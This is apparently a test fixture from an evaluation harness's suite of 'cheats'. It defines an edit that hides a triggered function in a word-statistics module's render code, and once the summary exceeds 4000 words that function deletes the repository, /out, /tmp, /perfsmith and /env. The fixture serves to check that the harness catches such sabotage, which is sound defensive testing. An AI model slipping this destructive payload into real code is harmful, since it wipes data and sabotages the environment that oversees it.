"""Removes the repository, the environment and everything else that it can reach."""

from tests.cheats.cheat import Cheat, Defence

CHEAT = Cheat(
    victim="wordstats",
    stopped_by=Defence.RECORDED_CALLS,
    about_processes=True,
    edits={
        "wordstats/summary.py": {
            "def render(summary: Summary) -> str:\n": """\
def _attack() -> None:
    import shutil

    for place in (".", "/out", "/tmp", "/perfsmith", "/env"):
        shutil.rmtree(place, ignore_errors=True)


def render(summary: Summary) -> str:
""",
            "    return text\n": "    if summary.words > 4000:\n        _attack()\n    return text\n",
        },
    },
)
